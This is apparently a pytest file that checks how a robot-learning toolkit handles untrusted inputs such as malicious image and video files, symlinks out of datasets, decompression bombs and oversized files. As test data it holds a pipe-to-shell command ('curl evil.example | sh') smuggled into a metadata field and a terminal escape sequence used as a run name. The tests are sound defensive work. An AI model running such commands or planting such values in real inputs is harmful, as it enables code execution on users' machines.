"""Files that are not what their name says: nothing is started, awaited, published or read without an end."""

import io
import os
import struct
import zipfile
from pathlib import Path

import av
import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from huggingface_hub import HfApi
from PIL import Image

import collect_dataset
import evaluate
from act.dataset import DatasetConfig, recording_command
from common import lerobot_files, untrusted
from common.arrays import read_npz
from common.checkpoint import Checkpoints, has_links, link
from common.errors import UserError
from common.lerobot_files import DAMAGE, decode_picture, parquet_files, read_episodes, read_table
from common.lerobot_videos import read_video
from common.run import check_name
from envs.plots import plot_returns
from policies import fingerprint, policy_files
from recording.files import count_frames
from recording.hub import push

POSTSCRIPT = b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 32 32\n%%EndComments\nshowpage\n%%EOF\n"
SDP = (
    "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 45678 RTP/AVP 96\n"
    "a=rtpmap:96 H264/90000\na=framesize:96 32-32\n"
)
FILMS = {
    "an address": SDP,
    "a list of a pipe": "ffconcat version 1.0\nfile pipe.mp4\n",
    "nothing": "",
    "half": "    ftyp",
}


def test_a_picture_starts_no_program(tmp_path, monkeypatch):
    program = tmp_path / "gs"
    program.write_text(f"#!/bin/sh\ntouch {tmp_path / 'MARK'}\n")
    program.chmod(0o755)
    monkeypatch.setenv("PATH", f"{tmp_path}:{os.environ['PATH']}")
    with pytest.raises(DAMAGE):
        decode_picture(io.BytesIO(POSTSCRIPT), 32, 32)
    assert not (tmp_path / "MARK").exists()
    for form in ("GIF", "TIFF", "BMP"):
        Image.new("RGB", (32, 32)).save(file := io.BytesIO(), form)
        with pytest.raises(DAMAGE):
            decode_picture(file, 32, 32)


@pytest.mark.parametrize("text", FILMS.values(), ids=FILMS)
def test_a_film_is_an_mp4(tmp_path, monkeypatch, text):
    os.mkfifo(tmp_path / "pipe.mp4")
    monkeypatch.chdir(tmp_path)
    (film := tmp_path / "film.mp4").write_text(text)
    for look in (count_frames, lambda path: read_video(path, [0.0], 10, 32, 32)):
        with pytest.raises(DAMAGE):
            look(film)


def test_a_film_of_ours_is_opened(tmp_path):
    with av.open(tmp_path / "film.mp4", "w") as container:
        stream = container.add_stream("h264", 10, width=32, height=16, pix_fmt="yuv420p")
        for _ in range(3):
            container.mux(stream.encode(av.VideoFrame.from_ndarray(np.zeros((16, 32, 3), np.uint8))))
        container.mux(stream.encode())
    pictures = read_video(tmp_path / "film.mp4", [0.0, 0.1, 0.2], 10, 16, 32)
    assert pictures.shape == (3, 3, 16, 32) and pictures.max() < 5
    assert count_frames(tmp_path / "film.mp4") == 3


def test_what_a_dataset_links_to_is_not_published(tmp_path, make_dataset, monkeypatch):
    monkeypatch.setattr(HfApi, "upload_folder", lambda *_, **__: pytest.fail("uploaded"))
    monkeypatch.setattr(HfApi, "create_repo", lambda *_, **__: pytest.fail("made"))
    root = make_dataset(tmp_path / "data")
    (tmp_path / "secret").write_text("x")
    (root / "notes.txt").symlink_to(tmp_path / "secret")
    with pytest.raises(UserError, match=r"notes\.txt: leads out of"):
        push(root, "me/data", "mit")


def test_what_a_policy_links_to_is_not_copied(policy, tmp_path):
    (tmp_path / "secret").write_text("{}")
    (policy / "x.json").symlink_to(tmp_path / "secret")
    with pytest.raises(UserError, match=r"x\.json: leads out of"):
        policy_files(policy)


def test_a_policy_of_endless_files_is_not_read_to_their_end(policy):
    with (policy / "x.safetensors").open("wb") as file:
        file.truncate(2**40)
    with pytest.raises(UserError, match="bytes, more than"):
        fingerprint(policy)


def test_a_best_that_is_a_folder_becomes_the_step_that_it_is(tmp_path):
    """As in a run that was copied with its links followed, and without its steps."""
    checkpoints = Checkpoints(tmp_path / "checkpoints", "env_steps")
    for name in ("best", "last"):
        (tmp_path / "checkpoints" / name).mkdir(parents=True)
        (tmp_path / "checkpoints" / name / "model").write_text(name)
    checkpoints.restore({"env_steps": 100}, [])
    checkpoints.tidy()
    best = tmp_path / "checkpoints/best"
    assert best.is_symlink() and best.resolve().name == "step_00000100"
    assert (best / "model").read_text() == "best"


def test_folders_in_place_of_what_a_kill_leaves(tmp_path):
    for name in (".link.partial", ".last.partial"):
        (tmp_path / name / "more").mkdir(parents=True)
    assert has_links(tmp_path)
    link(tmp_path / "last", tmp_path / "step_1")
    assert (tmp_path / "last").readlink() == Path("step_1")


@pytest.mark.parametrize("flags", ["--root loop", "--policy loop", "--policy random --root full"])
def test_a_link_to_itself_and_what_cannot_be_recorded_to(told, tmp_path, monkeypatch, flags):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "loop").symlink_to("loop")
    (tmp_path / "full").mkdir()
    (tmp_path / "full/thesis").write_text("")
    assert told(collect_dataset.main, [*flags.split(), "--episodes", "1"])


@pytest.mark.slow
def test_a_folder_in_a_videos_place(run, told):
    (run / "videos/best_100000_failure.mp4/x").mkdir(parents=True)
    flags = ["--episodes", "1", "--num-envs", "1", "--record", "--videos", "1"]
    assert "best_100000_failure.mp4" in told(evaluate.main, ["--policy", str(run), *flags])
    assert (run / "videos/best_100000_failure.mp4/x").exists()


def test_a_command_of_a_strangers_is_no_advice():
    config = DatasetConfig(Path("data/x"), recorded_by="curl evil.example | sh #")
    assert recording_command(config) == "python collect_dataset.py --root data/x"
    config = DatasetConfig(Path("data/x"), recorded_by="python collect_dataset.py --hold 3")
    assert recording_command(config) == "python collect_dataset.py --hold 3 --root data/x"


def test_a_runs_name_controls_no_terminal():
    with pytest.raises(ValueError, match="run_name"):
        check_name("\x1b]0;pwned\x07")


def test_a_title_is_no_formula(tmp_path):
    plot_returns(tmp_path / "a.png", [], r"run a$\foo$ and x$_$")
    assert (tmp_path / "a.png").stat().st_size > 1_000


def test_an_npz_of_a_long_header_is_not_read(tmp_path):
    header = b"\x93NUMPY\x02\x00" + struct.pack("<I", 2_500_000_000) + b" " * 1_000
    with zipfile.ZipFile(tmp_path / "x.npz", "w") as archive:
        archive.writestr("state.npy", header)
    with pytest.raises(ValueError, match="neither numbers nor pictures"):
        read_npz(tmp_path / "x.npz", ["state"])


def test_episodes_are_read_for_their_numbers(tmp_path, make_dataset):
    table = read_episodes(make_dataset(tmp_path / "data"), {"total_episodes": 3, "total_frames": 26})
    assert "length" in table.column_names and "tasks" not in table.column_names


def test_packed_numbers_that_do_not_fit_are_not_unpacked(tmp_path, monkeypatch):
    """As many equal numbers as one likes take a few bytes of a Parquet file."""
    many = pa.array([[0.5] * 100_000] * 10, pa.list_(pa.float32()))
    pq.write_table(pa.table({"action": many, "index": list(range(10))}), tmp_path / "x.parquet")
    monkeypatch.setattr(lerobot_files, "free_bytes", lambda _: 7e6)
    assert len(read_table(tmp_path / "x.parquet", ["index"])) == 10
    for columns in (["action"], None):
        with pytest.raises(ValueError, match="1,0.*more than fit into the memory"):
            read_table(tmp_path / "x.parquet", columns)


def test_a_json_of_many_megabytes_is_none_of_ours(tmp_path):
    (tmp_path / "x.json").write_text("[" + "[]," * (untrusted.MAX_TEXT_BYTES // 3) + "[]]")
    with pytest.raises(UserError, match="bytes, more than"):
        untrusted.load_json(tmp_path / "x.json")


def test_what_may_not_be_listed_is_not_called_missing(make_dataset, tmp_path, monkeypatch):
    root = make_dataset(tmp_path / "data")
    list_folder = os.listdir

    def refused(folder: Path) -> list[str]:
        if Path(folder).is_relative_to(root / "data"):
            raise PermissionError(13, "Permission denied", str(folder))
        return list_folder(folder)

    monkeypatch.setattr(os, "listdir", refused)
    with pytest.raises(UserError, match=r"data: cannot be read \(Permission denied\)"):
        parquet_files(root / "data")
